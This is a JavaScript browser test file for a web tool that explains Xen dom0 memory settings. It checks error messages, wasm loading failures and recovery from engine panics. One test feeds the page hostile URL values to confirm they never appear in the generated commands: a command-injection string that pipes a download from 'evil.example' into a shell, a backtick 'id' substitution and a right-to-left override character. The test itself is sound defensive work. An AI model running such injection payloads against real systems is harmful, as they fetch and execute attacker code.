// What goes wrong: links and fields that cannot be read, odd machines, wasm that does
// not come, browsers that are too old, engines that panic.
import assert from "node:assert/strict";
import { test } from "node:test";
import { open, started, text, type, value } from "./browser.mjs";
import { dist, start } from "../../www/build/server.mjs";
import { stand } from "./stand.mjs";

const { site, browser } = await stand();

test("a link that cannot be read says so at the top, and leads to its field", async () => {
  const { page, wrong } = await open(browser, `${site.url}#linux=nonsense&dom0-mem=2G&vcpus=0`);
  const shown = () => page.$eval("#unread", (e) => !e.hidden && e.getBoundingClientRect().top < innerHeight);
  assert.ok(await shown());
  const machine = await text(page, ".machine [data-text=machine]");
  const says = await text(page, "#unread");
  assert.match(says, /Linux version, dom0’s vCPUs/);
  assert.ok(says.includes(`showing ${machine} instead`), says);
  assert.equal(await value(page, "linux"), "nonsense");
  assert.match(await page.evaluate(() => location.hash), /linux=nonsense/);
  await page.click("#unread a[href='#vcpus']");
  assert.equal(await page.evaluate(() => document.activeElement.id), "vcpus");
  await type(page, "vcpus", "2");
  assert.doesNotMatch(await text(page, "#unread"), /vCPUs/);
  await type(page, "linux", "3.6");
  assert.equal(await page.$eval("#unread", (e) => e.hidden), true);
  assert.match(await text(page, ".machine [data-text=machine]"), /Linux 3.6/);
  const many = Array.from({ length: 129 }, (_, i) => `${(i * 2).toString(16)}-${(i * 2 + 1).toString(16)}:u`).join(",");
  await page.goto("about:blank");
  await page.goto(`${site.url}#v=1&e820=${many}`);
  await page.waitForSelector("#unread:not([hidden])");
  assert.match(await text(page, "#unread"), /at most 128/);
  assert.ok((await value(page, "e820")).startsWith("0-1"), "the text stays");
  assert.deepEqual(wrong, []);
  await page.close();
});

test("a link that wants to harm puts nothing into a command, hides nothing and fits a phone", async () => {
  const options = ["2G;curl+evil.example|sh", "2G%60id%60", "%E2%80%AEM4201%3Axam", "8G%2B25%25%3Amin%3D-64T%25%3Amin%3A-1P", "A".repeat(4000)];
  for (const option of options) {
    const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${option}&xen=4.17&linux=6.12`, { width: 320 });
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320, option);
    const codes = await page.$$eval(".command code", (all) => all.map((e) => e.textContent));
    assert.ok(codes.length > 5, option);
    assert.deepEqual(codes.filter((c) => /curl|`|\|sh|M4201|[^\n -~]/.test(c)), [], option);
    assert.doesNotMatch(await page.$eval("main", (e) => e.textContent), /\u202e|A{200}/, option);
    assert.deepEqual(wrong, []);
    await page.close();
  }
});

test("an option of very many letters has an error beside its field and stays there", async () => {
  const { page, wrong } = await open(browser, `${site.url}#v=1&dom0-mem=${"A".repeat(21_000)}`);
  assert.match(await text(page, "#unread"), /too long for this field/);
  assert.equal(await page.$eval("#dom0-mem", (e) => e.value.length), 21_000);
  await type(page, "dom0-mem", "2G");
  assert.match(await text(page, ".machine [data-text=machine]"), /dom0_mem=2G,/);
  assert.deepEqual(wrong, []);
  await page.close();
});

test("while a field is in error every result says of which machine it is", async () => {
  const { page, wrong } = await open(browser, site.url);
  const marks = () => page.$$eval("[data-stale-mark]", (all) => all.filter((e) => e.checkVisibility()).map((e) => e.textContent));
  assert.deepEqual(await marks(), []);
  await type(page, "linux", "nonsense");
  const machine = await text(page, ".machine [data-text=machine]");
  const shown = await marks();
  assert.equal(shown.length, 2);
  for (const mark of shown) assert.ok(mark.includes(machine), mark);
  assert.ok(await page.$(".result [role=status] [data-stale-mark]"), "it is announced");
  assert.equal(await page.$eval("#unread", (e) => e.hidden), true, "no link is to blame");
  await type(page, "linux", "3.6");
  assert.deepEqual(await marks(), []);
  assert.deepEqual(wrong, []);
  await page.close();
});

test("12 TiB, one-page regions and a text without a map are all answered", async () => {
  const { page, wrong } = await open(browser, `${site.url}#v=1&host-mem=12T&dom0-mem=8G&xen=4.17&linux=6.1`);
  assert.match(await text(page, "[data-text=machine]"), /^12.288.GiB/);
  await page.focus("[data-part=figure]");
  await page.keyboard.press("End");
  assert.match(await text(page, "[data-part=where]"), /^Step (\d+) of \1$/);
  const tiny = ["0-9f000 usable"];
  for (let i = 0; i < 40; i++) tiny.push(`${(0x100000 + i * 0x2000).toString(16)}-${(0x101000 + i * 0x2000).toString(16)} ${i % 2 ? "reserved" : "usable"}`);
  tiny.push("10000000-200000000 usable");
  await type(page, "dom0-mem", "1G");
  await type(page, "e820", tiny.join("\n"));
  assert.equal(await text(page, "#e-e820"), "");
  assert.ok(await page.$$eval("#regions tr", (all) => all.length > 40));
  const held = await text(page, "[data-marked='page.lead']");
  await type(page, "e820", "hello, this is no map at all");
  assert.notEqual(await text(page, "#e-e820"), "");
  assert.equal(await text(page, "[data-marked='page.lead']"), held);
  assert.deepEqual(wrong, []);
  await page.close();
});

test("while the engine loads the first content is there and nothing pretends to work", async () => {
  const page = await browser.newPage();
  await page.setRequestInterception(true);
  let go = () => {};
  page.on("request", (r) => { if (r.url().endsWith(".wasm")) go = () => r.continue(); else r.continue(); });
  await page.goto(site.url, { waitUntil: "domcontentloaded" });
  await page.waitForSelector("#answer svg");
  assert.match(await text(page, "[data-marked='page.lead']"), /Linux 3.2 returned/);
  assert.equal(await page.$$eval("[data-part=controls] :is(button, input, select):disabled", (all) => all.length), 6);
  await new Promise((r) => setTimeout(r, 300));
  go();
  await started(page);
  assert.equal(await page.$$eval("[data-part=controls] :disabled", (all) => all.length), 0);
  await page.close();
});

test("where wasm is refused or missing the page says so and keeps its first content", async () => {
  const cases = [
    [{ csp: "default-src 'none'; script-src 'self'; style-src 'self'; img-src data:; connect-src 'self'" }, "wasm-csp", /content policy does not allow WebAssembly/],
    [{ missing: [".wasm"] }, "wasm-load", /server answered 404/],
  ];
  for (const [options, code, says] of cases) {
    const other = await start({ root: dist, ...options });
    const { page } = await open(browser, other.url, { watch: false });
    await page.waitForSelector("#banner:not([hidden])");
    assert.match(await text(page, "#banner"), says);
    assert.equal(await page.$eval("#banner", (e) => e.dataset.code), code);
    assert.match(await text(page, "[data-marked='page.lead']"), /Linux 3.2 returned/);
    assert.ok(await page.$(".answer svg"));
    await page.close();
    other.server.close();
  }
});

test("without script the first pictures can be read at every width", async () => {
  const page = await browser.newPage();
  await page.setJavaScriptEnabled(false);
  for (const width of [1280, 1100, 1000, 360]) {
    await page.setViewport({ width, height: 900 });
    await page.goto(site.url);
    const shown = await page.$$eval(".answer svg, .whole svg", (all) => all.filter((e) => e.checkVisibility()).map((e) => e.getScreenCTM().a));
    assert.equal(shown.length, 2, `${width}`);
    assert.ok(shown.every((scale) => scale > 0.9), `${width}: ${shown}`);
  }
  await page.close();
});

test("a wrong MIME type for the wasm file is survived", async () => {
  const other = await start({ root: dist, types: { ".wasm": "text/plain" } });
  const { page } = await open(browser, other.url);
  assert.equal(await text(page, "[data-part=where]"), "Step 1 of 10");
  await page.close();
  other.server.close();
});

test("what the server sends instead of wasm is named by its type", async () => {
  const page = await browser.newPage();
  await page.setRequestInterception(true);
  page.on("request", (r) => (r.url().endsWith(".wasm") ? r.respond({ contentType: "text/html", body: "<!doctype html>" }) : r.continue()));
  await page.goto(site.url);
  await page.waitForSelector("#banner[data-code=wasm-mime]:not([hidden])");
  assert.match(await text(page, "#banner"), /“text\/html”/);
  await page.close();
});

test("a browser too old for the scripts is told so and keeps the first content", async () => {
  const page = await browser.newPage();
  await page.setRequestInterception(true);
  page.on("request", (r) => (/\/main-\w+\.js$/.test(r.url()) ? r.respond({ contentType: "text/javascript", body: "class { #" }) : r.continue()));
  await page.goto(site.url);
  await page.waitForSelector("#banner[data-code=old]:not([hidden])");
  assert.match(await text(page, "#banner"), /too old/);
  assert.ok(await page.$("#answer svg"));
  assert.equal(await page.$eval("[data-part=play]", (b) => b.disabled), true);
  await page.close();
});

test("a panic ends no page: the last good machine is back, with a link to what caused it", async () => {
  const { page } = await open(browser, site.url);
  await page.evaluate(async () => {
    const { Explainer } = await import(document.querySelector("script[type=module]").src);
    const run = Explainer.prototype.run;
    Explainer.prototype.run = function () {
      if (this.get("dom0-mem") === "3G") throw new WebAssembly.RuntimeError("unreachable");
      return run.call(this);
    };
  });
  await type(page, "dom0-mem", "3G");
  await page.waitForSelector("#banner[data-code=panic]:not([hidden])");
  assert.match(await page.$eval("#banner a", (a) => a.getAttribute("href")), /dom0-mem=3G/);
  assert.equal(await value(page, "dom0-mem"), "3G");
  await page.$eval("[data-part=next]", (e) => e.click());
  await page.waitForFunction(() => document.querySelector("[data-part=where]").textContent === "Step 2 of 10");
  await type(page, "dom0-mem", "4G");
  assert.equal(await page.$eval("#banner", (e) => e.hidden), true, "the machine that worked last, typed again");
  await type(page, "dom0-mem", "5G");
  assert.match(await text(page, "[data-text='page.given']"), /5 GiB/);
  assert.equal(await page.$eval("#banner", (e) => e.hidden), true);
  await page.close();
});

test("a real trap of the module itself ends no page either", async () => {
  const { page } = await open(browser, site.url);
  const trap = await page.evaluate(async () => {
    // The module as it ships stops itself where it is asked for more memory than there is:
    // on its own stack, by its own instruction.
    const { init, Explainer } = await import(document.querySelector("script[type=module]").src);
    const run = Explainer.prototype.run;
    const wasm = await init();
    window.traps = [];
    Explainer.prototype.run = function () {
      if (this.get("dom0-mem") !== "3G") return run.call(this);
      try { wasm.__wbindgen_malloc(0xfffffff0, 1); } catch (error) { window.traps.push(error instanceof WebAssembly.RuntimeError); throw error; }
    };
    return typeof wasm.__wbindgen_malloc;
  });
  assert.equal(trap, "function");
  await type(page, "dom0-mem", "3G");
  await page.waitForSelector("#banner[data-code=panic]:not([hidden])");
  assert.deepEqual(await page.evaluate(() => window.traps), [true]);
  assert.match(await page.$eval("#banner a", (a) => a.getAttribute("href")), /dom0-mem=3G/);
  await type(page, "dom0-mem", "5G");
  assert.match(await text(page, "[data-text='page.given']"), /5 GiB/);
  assert.equal(await page.$eval("#banner", (e) => e.hidden), true);
  await page.close();
});

test("an engine that panics is said, and what was typed stays in the address", async () => {
  const { page } = await open(browser, site.url);
  await type(page, "dom0-mem", "3G");
  await page.evaluate(async () => {
    const { Explainer } = await import(document.querySelector("script[type=module]").src);
    Explainer.prototype.draw = () => { throw new WebAssembly.RuntimeError("unreachable"); };
  });
  await page.click("[data-part=next]");
  await page.waitForSelector("#banner:not([hidden])");
  assert.match(await text(page, "#banner"), /simulation stopped/);
  await page.waitForFunction(() => /dom0-mem=3G/.test(location.hash));
  await page.close();
});

test("an engine that ends in the first picture is told", async () => {
  const page = await browser.newPage();
  await page.evaluateOnNewDocument(() => {
    for (const name of ["fill", "fillRect", "fillText", "stroke"]) {
      CanvasRenderingContext2D.prototype[name] = () => { throw new WebAssembly.RuntimeError("unreachable"); };
    }
  });
  await page.goto(site.url);
  await page.waitForSelector("#banner[data-code=panic]:not([hidden])");
  assert.match(await text(page, "#banner"), /link, which holds what you typed/);
  assert.doesNotMatch(await text(page, "#banner"), /is back/);
  assert.deepEqual(await page.$$eval(".controls button, .controls input, .controls select", (all) => all.filter((e) => !e.disabled).length), 0);
  await page.close();
});
